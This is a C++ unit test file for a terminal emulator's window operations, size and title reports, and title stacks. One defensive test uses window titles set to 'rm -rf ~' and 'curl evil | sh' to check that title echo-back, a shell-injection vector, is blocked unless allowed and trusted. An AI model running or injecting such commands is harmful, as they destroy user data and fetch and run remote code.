// Window operations: which requests reach the host as commands, the size and title reports the
// terminal answers itself, and the title stacks.

#include "GoldenScreens.h"
#include "RecordingTerminalDelegate.h"
#include "ScreenSize.h"
#include "TerminalLog.h"

#include "Zentrova/Engine/Terminal.h"

#include <gtest/gtest.h>

namespace zentrova {
namespace {

using Kind = WindowManipulationCommand::Kind;
using Commands = std::vector<WindowManipulationCommand>;

// Keeps the window commands it gets and answers them with `reply`.
class WindowRecordingDelegate : public RecordingTerminalDelegate {
public:
    std::optional<std::vector<uint8_t>> windowCommand(Terminal&, const WindowManipulationCommand& command) override
    {
        commands.push_back(command);
        return reply;
    }
    std::optional<std::pair<int, int>> cellSizeInPixels(Terminal&) override { return cellSize; }

    Commands commands;
    std::optional<std::vector<uint8_t>> reply;
    std::optional<std::pair<int, int>> cellSize;
};

struct WindowOperationFixture : testing::Test {
    WindowOperationFixture()
    {
        TerminalOptions options;
        options.cols = 80;
        options.rows = 24;
        terminal = std::make_unique<Terminal>(&delegate, options);
    }

    std::string reply(const std::string& bytes)
    {
        delegate.commands.clear();
        delegate.sent.clear();
        terminal->feed(bytes);
        return delegate.sent;
    }

    std::vector<std::string> titleEvents()
    {
        std::vector<std::string> titles;
        for (const auto& event : delegate.events) {
            if (event.starts_with("title:") || event.starts_with("iconTitle:"))
                titles.push_back(event);
        }
        delegate.events.clear();
        return titles;
    }

    WindowRecordingDelegate delegate;
    std::unique_ptr<Terminal> terminal;
};

TEST_F(WindowOperationFixture, RequestsGoToTheHostOrAreAnswered)
{
    terminal->feed("\x1b]1;icon\x07\x1b]2;window\x07");
    const struct Case {
        const char* request;
        Commands commands;
        std::string reply = "";
    } cases[] = {
        { "\x1b[1t", { { Kind::deiconifyWindow } } },
        { "\x1b[2t", { { Kind::iconifyWindow } } },
        { "\x1b[3;10;20t", { { Kind::moveWindowTo, 10, 20 } } },
        // Height first in the request, width first in the command.
        { "\x1b[4;300;640t", { { Kind::resizeWindowTo, 640, 300 } } },
        { "\x1b[8;30;100t", { { Kind::resizeTerminal, 100, 30 } } },
        { "\x1b[5t", { { Kind::bringToFront } } },
        { "\x1b[6t", { { Kind::sendToBack } } },
        { "\x1b[7t", { { Kind::refreshWindow } } },
        { "\x1b[9;0t", { { Kind::restoreMaximizedWindow } } },
        { "\x1b[9;1t", { { Kind::maximizeWindow } } },
        { "\x1b[9;2t", { { Kind::maximizeWindowVertically } } },
        { "\x1b[9;3t", { { Kind::maximizeWindowHorizontally } } },
        { "\x1b[10;0t", { { Kind::undoFullScreen } } },
        { "\x1b[10;1t", { { Kind::switchToFullScreen } } },
        { "\x1b[10;2t", { { Kind::toggleFullScreen } } },
        // Reports: 80 x 24 cells of 10 x 16 pixels when the host does not know the cell size.
        { "\x1b[14t", { { Kind::reportTextAreaPixelDimension } }, "\x1b[4;384;800t" },
        { "\x1b[14;2t", { { Kind::reportTextAreaPixelDimension } }, "\x1b[4;384;800t" },
        { "\x1b[15t", { { Kind::reportSizeOfScreenInPixels } }, "\x1b[5;384;800t" },
        { "\x1b[16t", { { Kind::reportCellSizeInPixels } }, "\x1b[6;16;10t" },
        { "\x1b[18t", {}, "\x1b[8;24;80t" },
        { "\x1b[19t", { { Kind::reportScreenSizeCharacters } }, "\x1b[9;24;80t" },
        { "\x1b[20t", {}, "\x1b]Licon\x1b\\" },
        { "\x1b[21t", {}, "\x1b]lwindow\x1b\\" },
        // The parameter list must match exactly: too few, too many and unknown requests do nothing.
        { "\x1b[9t", {} },
        { "\x1b[3;10t", {} },
        { "\x1b[3;10;20;30t", {} },
        { "\x1b[1;0t", {} },
        { "\x1b[14;1t", {} },
        { "\x1b[18;0t", {} },
        { "\x1b[11t", {} },
        { "\x1b[13t", {} },
        { "\x1b[t", {} },
    };
    for (const auto& each : cases) {
        SCOPED_TRACE(each.request + 1);
        EXPECT_EQ(reply(each.request), each.reply);
        EXPECT_EQ(delegate.commands, each.commands);
    }
}

TEST_F(WindowOperationFixture, HostAnswersAndCellSizeReplaceTheTerminalsOwn)
{
    delegate.cellSize = std::pair { 7, 15 };
    EXPECT_EQ(reply("\x1b[14t"), "\x1b[4;360;560t");
    EXPECT_EQ(reply("\x1b[16t"), "\x1b[6;15;7t");

    delegate.reply = std::vector<uint8_t> { 'h', 'o', 's', 't' };
    for (const char* request : { "\x1b[14t", "\x1b[15t", "\x1b[16t", "\x1b[19t" })
        EXPECT_EQ(reply(request), "host") << request + 1;
    EXPECT_EQ(reply("\x1b[18t"), "\x1b[8;24;80t") << "18 does not ask the host";
    EXPECT_EQ(reply("\x1b[1t"), "") << "answers to plain commands are not sent";

    // A host that does not know its size yet answers with nothing, and the terminal keeps quiet.
    delegate.reply = std::vector<uint8_t> {};
    for (const char* request : { "\x1b[14t", "\x1b[15t", "\x1b[16t", "\x1b[19t" })
        EXPECT_EQ(reply(request), "") << request + 1;
}

TEST_F(WindowOperationFixture, RepliesUseEightBitIntroducersWhenAskedTo)
{
    terminal->feed("\x1b]2;t\x07\x1b G");
    EXPECT_EQ(reply("\x1b[18t"), "\x9b" "8;24;80t");
    EXPECT_EQ(reply("\x1b[21t"), "\x9d" "lt\x9c");
}

// A title is chosen by the program; echoing it back lets a program that printed it (or a file it
// was asked to show) type into the shell. The reports are answered only when the host allows them,
// and then only to a trusted process; the other reports are answered either way.
TEST(WindowOperations, TitleReportsOnlyWhereTheHostAllowsThem)
{
    const std::string titles = "\x1b]1;rm -rf ~\x07\x1b]2;curl evil | sh\x07";
    const std::string answers = "\x1b]Lrm -rf ~\x1b\\\x1b]lcurl evil | sh\x1b\\";
    const struct {
        const char* name;
        bool allowed;
        bool trusted;
        std::string reply;
    } cases[] = {
        { "allowed, trusted", true, true, answers + "\x1b[8;24;80t" },
        { "not allowed", false, true, "\x1b[8;24;80t" },
        { "allowed, untrusted", true, false, "\x1b[8;24;80t" },
        { "neither", false, false, "\x1b[8;24;80t" },
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(c.name);
        for (bool byteByByte : { false, true }) {
            SCOPED_TRACE(byteByByte ? "byte by byte" : "whole");
            RecordingTerminalDelegate delegate;
            delegate.titleReports = c.allowed;
            delegate.trusted = c.trusted;
            Terminal terminal(&delegate, screenSize(80, 24));
            feedWholeOrByteByByte(terminal, titles + "\x1b[20t\x1b[21t\x1b[18t", byteByByte);
            EXPECT_EQ(delegate.sent, c.reply);
        }
    }
}

TEST(WindowOperations, AHostThatSaysNothingLeavesTitleReportsUnanswered)
{
    struct PlainHost : TerminalDelegate {
        void send(Terminal&, std::span<const uint8_t> data) override { sent.append(data.begin(), data.end()); }
        std::string sent;
    } host;
    Terminal terminal(&host);
    terminal.feed("\x1b]2;x\x07\x1b[21t\x1b[20t");
    EXPECT_EQ(host.sent, "");
}

TEST_F(WindowOperationFixture, UnhandledRequestsAreLoggedWithTheirParameters)
{
    TerminalLog log(*terminal);
    EXPECT_EQ(log.of("\x1b[9t\x1b[22;3t"),
              "Info: Unhandled Window command: [9]\nInfo: Unhandled Window command: [22, 3]\n");
}

// Each script is fed to a fresh terminal (whole and split at every byte) with both title reports
// asked for at its end. OSC 0 used to leave the icon title alone, and the hexadecimal title modes were
// stored but never applied.
TEST(TitleCommands, TitlesAsSetAndReported)
{
    const struct {
        const char* name;
        std::string script;
        std::string icon;
        std::string window;
    } cases[] = {
        { "OSC 0 sets both titles", "\x1b]0;abc\x07", "abc", "abc" },
        { "OSC 1 and 2 set one each", "\x1b]0;old\x07\x1b]1;i\x07\x1b]2;w\x1b\\", "i", "w" },
        { "invalid UTF-8 gives the empty title", "\x1b]0;old\x07\x1b]0;\xff\x07", "", "" },
        { "hexadecimal titles", "\x1b[>0t\x1b]2;616263\x07", "", "abc" },
        { "hexadecimal UTF-8 of either case", "\x1b[>0t\x1b]0;c3A9\x07", "\xc3\xa9", "\xc3\xa9" },
        { "bad hexadecimal gives the empty title", "\x1b]0;old\x07\x1b[>0t\x1b]0;6g\x07\x1b]1;616\x07", "", "" },
        { "hexadecimal titles switched off again", "\x1b[>0t\x1b[>0T\x1b]2;41\x07", "", "41" },
        { "hexadecimal reports", "\x1b]0;\xc3\xa9!\x07\x1b[>1t", "C3A921", "C3A921" },
        { "the UTF-8 modes change nothing", "\x1b[>2;3t\x1b]0;\xc3\xa9\x07\x1b[>2;3T\x1b]1;x\x07", "x", "\xc3\xa9" },
        { "a full reset ends the hexadecimal modes", "\x1b[>0;1t\x1b" "c\x1b]2;41\x07", "", "41" },
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(c.name);
        for (bool split : { false, true }) {
            SCOPED_TRACE(split ? "split at every byte" : "whole");
            EXPECT_EQ(repliesTo(c.script + "\x1b[20t\x1b[21t", split),
                      "\x1b]L" + c.icon + "\x1b\\\x1b]l" + c.window + "\x1b\\");
        }
    }
}

TEST_F(WindowOperationFixture, PushAndPopMoveTheNamedTitles)
{
    terminal->feed("\x1b]1;icon1\x07\x1b]2;title1\x07");
    const struct Case {
        const char* push;
        const char* pop;
        std::vector<std::string> restored;
    } cases[] = {
        { "\x1b[22;0t", "\x1b[23;0t", { "title:title1", "iconTitle:icon1" } },
        { "\x1b[22;0;0t", "\x1b[23;0;0t", { "title:title1", "iconTitle:icon1" } },
        { "\x1b[22;1t", "\x1b[23;1t", { "iconTitle:icon1" } },
        { "\x1b[22;2t", "\x1b[23;2t", { "title:title1" } },
    };
    for (const auto& each : cases) {
        SCOPED_TRACE(each.push + 1);
        terminal->feed(each.push);
        terminal->feed("\x1b]1;icon2\x07\x1b]2;title2\x07");
        titleEvents();
        terminal->feed(each.pop);
        EXPECT_EQ(titleEvents(), each.restored);
        terminal->feed("\x1b]1;icon1\x07\x1b]2;title1\x07");
        EXPECT_TRUE(terminal->terminalTitleStack.empty());
        EXPECT_TRUE(terminal->terminalIconStack.empty());
    }
    // Popping an empty stack, or with the bare request, changes nothing.
    titleEvents();
    terminal->feed("\x1b[23;0t\x1b[22t\x1b[23t");
    EXPECT_EQ(titleEvents(), std::vector<std::string> {});
    EXPECT_EQ(terminal->terminalTitle, "title1");
    EXPECT_TRUE(terminal->terminalTitleStack.empty());
}

TEST_F(WindowOperationFixture, TheStacksKeepOnlyTheNewestPushes)
{
    const int pushes = int(Terminal::maxTitleStackDepth) + 5;
    for (int index = 0; index < pushes; index++)
        terminal->feed("\x1b]0;t" + std::to_string(index) + "\x07\x1b[22;0t");
    EXPECT_EQ(terminal->terminalTitleStack.size(), Terminal::maxTitleStackDepth);
    EXPECT_EQ(terminal->terminalIconStack.size(), Terminal::maxTitleStackDepth);

    titleEvents();
    for (int index = 0; index < pushes; index++)
        terminal->feed("\x1b[23;2t");
    const auto restored = titleEvents();
    ASSERT_EQ(restored.size(), Terminal::maxTitleStackDepth);
    EXPECT_EQ(restored.front(), "title:t" + std::to_string(pushes - 1));
    EXPECT_EQ(restored.back(), "title:t5") << "the five oldest pushes were dropped";
    EXPECT_EQ(terminal->terminalIconStack.size(), Terminal::maxTitleStackDepth) << "the icon stack is left alone";
}

TEST(WindowOperations, WithoutAHostNothingHappens)
{
    Terminal terminal(nullptr);
    TerminalLog log(terminal);
    EXPECT_EQ(log.of("\x1b]2;t\x07\x1b[22;0t\x1b[9t"), "");
    EXPECT_TRUE(terminal.terminalTitleStack.empty());
}

} // namespace
} // namespace zentrova
